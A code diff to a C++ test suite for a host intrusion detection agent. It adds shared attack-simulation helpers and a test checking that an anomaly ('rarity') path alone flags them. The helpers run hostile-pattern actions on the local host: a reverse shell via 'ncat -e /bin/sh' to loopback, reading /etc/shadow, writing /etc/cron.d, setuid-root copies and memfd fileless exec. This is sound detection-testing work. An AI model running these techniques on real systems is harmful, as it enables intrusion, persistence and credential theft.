@@ -180,6 +180,151 @@ std::unique_ptr<Proc> start_agent(const fs::path& dir, const std::string& thresh
   return agent;
 }
 
+// ---------------------------------------------------------------------------
+// Attack activities, shared by the Scenarios suite (built-in detections) and
+// the rarity test (built-in detections off). `dir` must be world-readable.
+
+// A "service" (a copy of dash named httpd) runs `sh -c id`.
+void act_shell_from_service(const fs::path& dir) {
+  const auto httpd = dir / "httpd";
+  fs::copy_file("/bin/dash", httpd, fs::copy_options::overwrite_existing);
+  run({httpd.string(), "-c", "/bin/sh -c id; true"});
+}
+
+// The remote end of an attack, on loopback, in a child process of its own:
+// the attacking process and its ancestors never listen (a listening ancestor
+// would make every later activity "network-facing" for the rarity path).
+// With a script, it accepts one connection, waits a moment (the operator),
+// sends the script and reads until the other side closes.
+class RemoteEnd {
+ public:
+  explicit RemoteEnd(std::string script = {}) {
+    int p[2];
+    if (pipe(p) != 0) return;
+    pid_ = fork();
+    if (pid_ == 0) {
+      close(p[0]);
+      const vigil::test::LoopbackListener srv;
+      const std::uint16_t port = srv.ok() ? ntohs(srv.addr.sin_port) : 0;
+      if (write(p[1], &port, sizeof(port)) != sizeof(port) || port == 0) _exit(1);
+      close(p[1]);
+      if (script.empty()) {
+        pause();  // the kernel completes handshakes from the backlog
+        _exit(0);
+      }
+      const int c = accept(srv.fd, nullptr, nullptr);
+      if (c < 0) _exit(2);
+      std::this_thread::sleep_for(1s);
+      if (write(c, script.data(), script.size()) != static_cast<ssize_t>(script.size())) _exit(3);
+      char buf[512];
+      while (read(c, buf, sizeof(buf)) > 0) {
+      }
+      _exit(0);
+    }
+    close(p[1]);
+    if (read(p[0], &port_, sizeof(port_)) != sizeof(port_)) port_ = 0;
+    close(p[0]);
+  }
+  ~RemoteEnd() {
+    if (pid_ > 0) {
+      kill(pid_, SIGKILL);
+      waitpid(pid_, nullptr, 0);
+    }
+  }
+  RemoteEnd(const RemoteEnd&) = delete;
+  RemoteEnd& operator=(const RemoteEnd&) = delete;
+  [[nodiscard]] bool ok() const { return port_ != 0; }
+  [[nodiscard]] std::uint16_t port() const { return port_; }
+
+ private:
+  pid_t pid_ = -1;
+  std::uint16_t port_ = 0;
+};
+
+// `ncat -e /bin/sh 127.0.0.1 PORT`: ncat connects, then runs a shell whose
+// stdin/stdout/stderr are the socket; the operator at the other end types
+// `id` and `exit`.
+::testing::AssertionResult act_reverse_shell(const fs::path& dir) {
+  const RemoteEnd operator_end("id\nexit\n");
+  if (!operator_end.ok()) return ::testing::AssertionFailure() << "no loopback listener";
+  fs::create_directories(dir / "run");
+  Proc ncat({"/usr/bin/ncat", "-e", "/bin/sh", "127.0.0.1", std::to_string(operator_end.port())},
+            dir / "run");
+  const int rc = ncat.wait();
+  if (rc != 0) return ::testing::AssertionFailure() << "ncat exited " << rc;
+  return ::testing::AssertionSuccess();
+}
+
+// A set-uid-root copy of id in `dir`, run by nobody.
+void act_setuid_copy(const fs::path& dir) {
+  const auto helper = dir / "suid-id";
+  fs::copy_file("/usr/bin/id", helper, fs::copy_options::overwrite_existing);
+  chmod(helper.c_str(), 04755);
+  run({helper.string()}, 65534);
+}
+
+// What a dropper script does: write a file, chmod +x, run it.
+void act_dropped_binary(const fs::path& dir) {
+  const auto dropped = (dir / "dropped").string();
+  run({"/bin/sh", "-c",
+       "cat /bin/true > " + dropped + " && chmod +x " + dropped + " && " + dropped});
+}
+
+// A new file in /etc/cron.d written by a shell.
+void act_cron_write() {
+  const std::string path = "/etc/cron.d/vigil-scenario";
+  run({"/bin/sh", "-c", "echo '* * * * * root true' > " + path});
+  fs::remove(path);
+}
+
+// /etc/shadow read by a copy of cat in `dir`.
+void act_shadow_read(const fs::path& dir) {
+  const auto cat = dir / "cat";
+  fs::copy_file("/bin/cat", cat, fs::copy_options::overwrite_existing);
+  run({"/bin/sh", "-c", cat.string() + " /etc/shadow > /dev/null"});
+}
+
+// memfd_create + fexecve of a copy of /bin/true; returns the child's pid.
+pid_t act_fileless() {
+  const pid_t child = fork();
+  if (child == 0) {
+    const int fd = memfd_create("payload", MFD_CLOEXEC);
+    const int src = open("/bin/true", O_RDONLY);
+    char buf[65536];
+    ssize_t n = 0;
+    while ((n = read(src, buf, sizeof(buf))) > 0) {
+      if (write(fd, buf, static_cast<std::size_t>(n)) != n) _exit(2);
+    }
+    char* argv[] = {const_cast<char*>("payload"), nullptr};
+    fexecve(fd, argv, environ);
+    _exit(3);
+  }
+  waitpid(child, nullptr, 0);
+  return child;
+}
+
+// Recon, then a connection to what answered, then a program: one process.
+pid_t act_scan_connect_exec() {
+  const RemoteEnd open_port;
+  if (!open_port.ok()) return -1;
+  const pid_t actor = fork();
+  if (actor == 0) {
+    refused_connects(41000, 41030);
+    const int c = socket(AF_INET, SOCK_STREAM, 0);
+    sockaddr_in a{};
+    a.sin_family = AF_INET;
+    a.sin_port = htons(open_port.port());
+    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    if (connect(c, reinterpret_cast<sockaddr*>(&a), sizeof(a)) != 0) _exit(1);
+    const int null = open("/dev/null", O_RDWR);
+    dup2(null, 1);
+    execl("/usr/bin/id", "id", nullptr);
+    _exit(2);
+  }
+  waitpid(actor, nullptr, 0);
+  return actor;
+}
+
 class Scenarios : public ::testing::Test {
  protected:
   static void SetUpTestSuite() {
@@ -268,28 +413,13 @@ auto pid_is(pid_t pid) {
 }
 
 TEST_F(Scenarios, ShellSpawnedByAService) {
-  const auto httpd = dir() / "httpd";
-  fs::copy_file("/bin/dash", httpd);
-  run({httpd.string(), "-c", "/bin/sh -c id; true"});
+  act_shell_from_service(dir());
   expect("shell spawned by a service (`httpd` runs `sh -c id`)", "shell-from-service",
          comm_is("sh"));
 }
 
 TEST_F(Scenarios, ReverseShellToALocalListener) {
-  // `ncat -e /bin/sh 127.0.0.1 PORT`: ncat connects, then runs a shell whose
-  // stdin/stdout/stderr are the socket; we are the operator at the other end.
-  const vigil::test::LoopbackListener srv;
-  ASSERT_TRUE(srv.ok());
-  Proc ncat(
-      {"/usr/bin/ncat", "-e", "/bin/sh", "127.0.0.1", std::to_string(ntohs(srv.addr.sin_port))},
-      dir() / "run");
-  const int conn = accept(srv.fd, nullptr, nullptr);
-  ASSERT_GE(conn, 0);
-  std::this_thread::sleep_for(1s);  // the operator takes a moment
-  const std::string cmds = "id\nexit\n";
-  EXPECT_EQ(write(conn, cmds.data(), cmds.size()), static_cast<ssize_t>(cmds.size()));
-  EXPECT_EQ(ncat.wait(), 0);
-  close(conn);
+  ASSERT_TRUE(act_reverse_shell(dir()));
   expect("reverse shell: `ncat -e /bin/sh 127.0.0.1 PORT` to a local listener", "reverse-shell",
          comm_is("sh"));
 }
@@ -340,20 +470,7 @@ TEST_F(Scenarios, RwToRxStaging) {
 }
 
 TEST_F(Scenarios, FilelessExecFromMemfd) {
-  const pid_t child = fork();
-  if (child == 0) {
-    const int fd = memfd_create("payload", MFD_CLOEXEC);
-    const int src = open("/bin/true", O_RDONLY);
-    char buf[65536];
-    ssize_t n = 0;
-    while ((n = read(src, buf, sizeof(buf))) > 0) {
-      if (write(fd, buf, static_cast<std::size_t>(n)) != n) _exit(2);
-    }
-    char* argv[] = {const_cast<char*>("payload"), nullptr};
-    fexecve(fd, argv, environ);
-    _exit(3);
-  }
-  waitpid(child, nullptr, 0);
+  const pid_t child = act_fileless();
   expect("fileless exec via memfd_create + execve", "fileless-exec", pid_is(child));
 }
 
@@ -381,19 +498,13 @@ TEST_F(Scenarios, ProcessVmWritevIntoAChild) {
 }
 
 TEST_F(Scenarios, SetuidRootHelperRunByNobody) {
-  const auto helper = dir() / "suid-id";
-  fs::copy_file("/usr/bin/id", helper);
-  ASSERT_EQ(chmod(helper.c_str(), 04755), 0);
-  run({helper.string()}, 65534);
+  act_setuid_copy(dir());
   expect("set-uid-root copy of a helper run by an unprivileged user", "setuid-exec-writable",
          comm_is("suid-id"));
 }
 
 TEST_F(Scenarios, DroppedBinaryRunFromTmp) {
-  // What a dropper script does: write a file to /tmp, chmod +x, run it.
-  const auto dropped = (dir() / "dropped").string();
-  run({"/bin/sh", "-c",
-       "cat /bin/true > " + dropped + " && chmod +x " + dropped + " && " + dropped});
+  act_dropped_binary(dir());  // in /tmp
   expect("dropped binary: written to /tmp, chmod +x, executed", "dropped-exec", comm_is("dropped"));
 }
 
@@ -413,35 +524,19 @@ TEST_F(Scenarios, CrashStormOfOneExecutable) {
 }
 
 TEST_F(Scenarios, CronPersistenceWrittenByAShell) {
-  const std::string path = "/etc/cron.d/vigil-scenario";
-  run({"/bin/sh", "-c", "echo '* * * * * root true' > " + path});
-  fs::remove(path);
+  act_cron_write();
   expect("persistence: a new file in /etc/cron.d written by a shell", "cron-write", any);
 }
 
 TEST_F(Scenarios, ShadowReadByACopyOfCat) {
-  const auto cat = dir() / "cat";
-  fs::copy_file("/bin/cat", cat);
-  run({"/bin/sh", "-c", cat.string() + " /etc/shadow > /dev/null"});
+  act_shadow_read(dir());
   expect("credential access: /etc/shadow read by a copy of cat in /tmp", "credential-read",
          comm_is("cat"));
 }
 
 TEST_F(Scenarios, ScanThenConnectThenExec) {
-  // Recon, then a connection to what answered, then a program: one process.
-  const vigil::test::LoopbackListener open_port;
-  ASSERT_TRUE(open_port.ok());
-  const pid_t actor = fork();
-  if (actor == 0) {
-    refused_connects(41000, 41030);
-    const int c = open_port.connect_client();
-    if (c < 0) _exit(1);
-    const int null = open("/dev/null", O_RDWR);
-    dup2(null, 1);
-    execl("/usr/bin/id", "id", nullptr);
-    _exit(2);
-  }
-  waitpid(actor, nullptr, 0);
+  const pid_t actor = act_scan_connect_exec();
+  ASSERT_GT(actor, 0);
   expect("scan -> connect -> exec in one process tree", "scan-connect-exec", pid_is(actor));
 }
 
@@ -459,21 +554,21 @@ TEST_F(Scenarios, BeaconToALocalListener) {
 
 // ---------------------------------------------------------------------------
 
-TEST(BenignSuite, RaisesNoAlertAtOrAbove50) {
-  if (::geteuid() != 0 && std::getenv("CI") == nullptr) GTEST_SKIP() << "needs root";
-  ASSERT_EQ(::geteuid(), 0) << "privileged test not run as root under CI";
-  vigil::test::TempDir dir;
-  auto agent = start_agent(dir.path(), "50");
-  ASSERT_NE(agent, nullptr);
-  const auto work = dir.path() / "work";
+// Everyday developer and admin work in `dir`: a shell loop of everyday
+// commands for `loop_s` seconds, beside a make -j2 build, git, a local HTTP
+// server answering 200 requests, and package metadata.
+void benign_workload(const fs::path& dir, int loop_s) {
+  const auto work = dir / "work";
   fs::create_directories(work);
+  fs::create_directories(dir / "run");
   const auto w = work.string();
 
-  // A shell loop of everyday commands for 60 s, beside the other workloads.
+  // A shell loop of everyday commands, beside the other workloads.
   Proc loop({"/bin/sh", "-c",
-             "end=$(($(date +%s)+60)); while [ $(date +%s) -lt $end ]; do date >/dev/null; "
-             "ls / >/dev/null; grep -c root /etc/passwd >/dev/null; sleep 0.05; done"},
-            dir.path() / "run");
+             "end=$(($(date +%s)+" + std::to_string(loop_s) +
+                 ")); while [ $(date +%s) -lt $end ]; do date >/dev/null; "
+                 "ls / >/dev/null; grep -c root /etc/passwd >/dev/null; sleep 0.05; done"},
+            dir / "run");
   // Build a small C project with make -j2.
   for (int i = 0; i < 8; ++i) {
     std::ofstream(work / ("f" + std::to_string(i) + ".c"))
@@ -490,7 +585,7 @@ TEST(BenignSuite, RaisesNoAlertAtOrAbove50) {
   // A local HTTP server answering 200 requests.
   Proc server({"/usr/bin/env", "python3", "-m", "http.server", "--bind", "127.0.0.1", "18731",
                "--directory", w},
-              dir.path() / "run");
+              dir / "run");
   ASSERT_TRUE(wait_until([] { return sh("curl -sf http://127.0.0.1:18731/ -o /dev/null"); }, 10s));
   for (int i = 0; i < 200; ++i) sh("curl -sf http://127.0.0.1:18731/main.c -o /dev/null");
   kill(server.pid(), SIGTERM);
@@ -498,6 +593,15 @@ TEST(BenignSuite, RaisesNoAlertAtOrAbove50) {
   // Package metadata.
   sh("apt-cache policy bash");
   EXPECT_EQ(loop.wait(), 0) << "the everyday-commands loop failed";
+}
+
+TEST(BenignSuite, RaisesNoAlertAtOrAbove50) {
+  if (::geteuid() != 0 && std::getenv("CI") == nullptr) GTEST_SKIP() << "needs root";
+  ASSERT_EQ(::geteuid(), 0) << "privileged test not run as root under CI";
+  vigil::test::TempDir dir;
+  auto agent = start_agent(dir.path(), "50");
+  ASSERT_NE(agent, nullptr);
+  benign_workload(dir.path(), 60);
 
   std::this_thread::sleep_for(1s);
   kill(agent->pid(), SIGINT);
@@ -511,10 +615,168 @@ TEST(BenignSuite, RaisesNoAlertAtOrAbove50) {
   EXPECT_TRUE(alerts.empty()) << alerts.size() << " alerts, first: " << alerts.front();
 }
 
+// ---------------------------------------------------------------------------
+// The rarity path on its own (docs/learning.md, "Rarity"): every built-in
+// indicator, Sigma rule and stateful detector switched off, a host memory
+// learned from the benign workload. Then the benign workload again in another
+// directory (a second recording run: it must raise nothing) and the public
+// attack activities (at least 3 must alert through a rare-* indicator).
+
+struct RarityRow {
+  std::string scenario;
+  std::string indicator;  // empty: not caught
+  int score = -1;
+  std::string contexts;
+};
+std::vector<RarityRow>& rarity_table() {
+  static std::vector<RarityRow> rows;
+  return rows;
+}
+
+// Lines of a JSON-lines file that start in bytes [from, to).
+std::vector<nlohmann::json> lines_from(const fs::path& path, std::uintmax_t from,
+                                       std::uintmax_t to = UINTMAX_MAX) {
+  std::vector<nlohmann::json> out;
+  std::ifstream in(path);
+  in.seekg(static_cast<std::streamoff>(from));
+  std::string line;
+  while (static_cast<std::uintmax_t>(in.tellg()) < to && std::getline(in, line)) {
+    auto j = nlohmann::json::parse(line, nullptr, false);
+    if (!j.is_discarded() && j.contains("score")) out.push_back(std::move(j));
+  }
+  return out;
+}
+std::uintmax_t size_of(const fs::path& path) {
+  std::error_code ec;
+  const auto n = fs::file_size(path, ec);
+  return ec ? 0 : n;
+}
+std::string rare_indicator(const nlohmann::json& j) {
+  for (const auto& i : j.value("indicators", nlohmann::json::array())) {
+    const auto id = i.value("id", std::string());
+    if (id.starts_with("rare-")) return id;
+  }
+  return {};
+}
+
+TEST(RarityPath, CatchesPublicScenariosWithBuiltInDetectionsOff) {
+  REQUIRE_ROOT_OR_SKIP();
+  vigil::test::TempDir dir;
+  fs::permissions(dir.path(), fs::perms::owner_all | fs::perms::group_read | fs::perms::group_exec |
+                                  fs::perms::others_read | fs::perms::others_exec);
+  constexpr int kLearnS = 60;
+  const auto started = std::chrono::steady_clock::now();
+  auto agent = start_agent(dir.path(), "50",
+                           {"--no-builtin-detections", "--rarity-learn", std::to_string(kLearnS)});
+  ASSERT_NE(agent, nullptr);
+  EXPECT_NE(agent->err().find("BUILT-IN DETECTIONS ARE OFF"), std::string::npos)
+      << "the evaluation mode must say so loudly: " << agent->err();
+  const auto alerts = dir.path() / "scored.jsonl";
+
+  // Learning: the host memory takes in the benign workload (first run).
+  benign_workload(dir.path() / "learn", 45);
+  std::this_thread::sleep_until(started + std::chrono::seconds(kLearnS + 2));
+  const auto learned = lines_from(alerts, 0);
+  EXPECT_TRUE(learned.empty()) << "alerts while learning: " << learned.front().dump();
+
+  // A second run of the same benign work, elsewhere: nothing may alert.
+  const auto replay_from = size_of(alerts);
+  benign_workload(dir.path() / "replay", 20);
+  std::this_thread::sleep_for(2s);
+  const auto replay = lines_from(alerts, replay_from);
+  EXPECT_TRUE(replay.empty()) << replay.size() << " alerts on benign work after learning, first: "
+                              << replay.front().dump();
+
+  // The public attack activities, one window each.
+  const auto atk = dir.path() / "atk";
+  fs::create_directories(atk);
+  fs::permissions(atk, fs::perms::owner_all | fs::perms::group_read | fs::perms::group_exec |
+                           fs::perms::others_read | fs::perms::others_exec);
+  struct Case {
+    std::string name;
+    std::function<pid_t()> act;  // returns a pid to match, or 0: match by comm
+    std::vector<std::string> comms;
+  };
+  const std::vector<Case> cases = {
+      {"shell spawned by a service (`httpd` runs `sh -c id`)",
+       [&] {
+         act_shell_from_service(atk);
+         return 0;
+       },
+       {"sh", "httpd"}},
+      {"reverse shell: `ncat -e /bin/sh` to a local listener",
+       [&] {
+         EXPECT_TRUE(act_reverse_shell(atk));
+         return 0;
+       },
+       {"sh", "ncat"}},
+      {"set-uid-root copy of id run by nobody",
+       [&] {
+         act_setuid_copy(atk);
+         return 0;
+       },
+       {"suid-id"}},
+      {"dropped binary: written, chmod +x, executed",
+       [&] {
+         act_dropped_binary(atk);
+         return 0;
+       },
+       {"dropped", "sh", "chmod", "cat"}},
+      {"persistence: a new file in /etc/cron.d written by a shell",
+       [] {
+         act_cron_write();
+         return 0;
+       },
+       {"sh"}},
+      {"credential access: /etc/shadow read by a copy of cat",
+       [&] {
+         act_shadow_read(atk);
+         return 0;
+       },
+       {"cat"}},
+      {"fileless exec via memfd_create + execve", [] { return act_fileless(); }, {}},
+      {"scan -> connect -> exec in one process tree", [] { return act_scan_connect_exec(); }, {}},
+  };
+  std::vector<std::pair<std::uintmax_t, pid_t>> windows;
+  for (const auto& c : cases) {
+    const auto from = size_of(alerts);
+    windows.emplace_back(from, c.act());
+    std::this_thread::sleep_for(1500ms);  // the next window starts after this one's alerts
+  }
+  std::this_thread::sleep_for(2s);
+  windows.emplace_back(size_of(alerts), 0);
+  int caught = 0;
+  for (std::size_t i = 0; i < cases.size(); ++i) {
+    RarityRow row{cases[i].name, "", -1, ""};
+    for (const auto& j : lines_from(alerts, windows[i].first, windows[i + 1].first)) {
+      const auto id = rare_indicator(j);
+      if (id.empty()) continue;
+      const auto& ev = j["event"];
+      const bool ours = windows[i].second > 0
+                            ? ev.value("pid", 0) == windows[i].second
+                            : std::ranges::find(cases[i].comms, ev.value("comm", std::string())) !=
+                                  cases[i].comms.end();
+      if (ours && j["score"].get<int>() > row.score) {
+        row.indicator = id;
+        row.score = j["score"].get<int>();
+        row.contexts = j.contains("rarity")
+                           ? j["rarity"].value("contexts", nlohmann::json::array()).dump()
+                           : "";
+      }
+    }
+    if (row.score >= 50) ++caught;
+    rarity_table().push_back(row);
+  }
+  kill(agent->pid(), SIGINT);
+  agent->wait_for(30s);
+  EXPECT_GE(caught, 3) << "the rarity path alone alerted on " << caught << " of " << cases.size()
+                       << " public scenarios";
+}
+
 class TablePrinter : public ::testing::Environment {
  public:
   void TearDown() override {
-    if (table().empty()) return;
+    if (table().empty() && rarity_table().empty()) return;
     std::string md = "| scenario | indicator | ATT&CK | score |\n|---|---|---|---|\n";
     for (const auto& r : table()) {
       md += "| " + r.scenario + " | `" + r.indicator + "` | " +
@@ -523,6 +785,16 @@ class TablePrinter : public ::testing::Environment {
     }
     if (benign_alerts() >= 0) {
       md += "\nBenign suite: " + std::to_string(benign_alerts()) + " alerts >= 50.\n";
+    }
+    if (!rarity_table().empty()) {
+      md +=
+          "\nRarity path alone (built-in detections off, host memory learned from the benign "
+          "workload):\n\n| scenario | indicator | score | contexts |\n|---|---|---|---|\n";
+      for (const auto& r : rarity_table()) {
+        md += "| " + r.scenario + " | " + (r.indicator.empty() ? "-" : "`" + r.indicator + "`") +
+              " | " + (r.score < 0 ? "not detected" : std::to_string(r.score)) + " | " +
+              (r.contexts.empty() ? "-" : r.contexts) + " |\n";
+      }
     }
     std::printf("\n%s", md.c_str());
     if (const char* out = std::getenv("VIGIL_SCENARIO_TABLE")) {
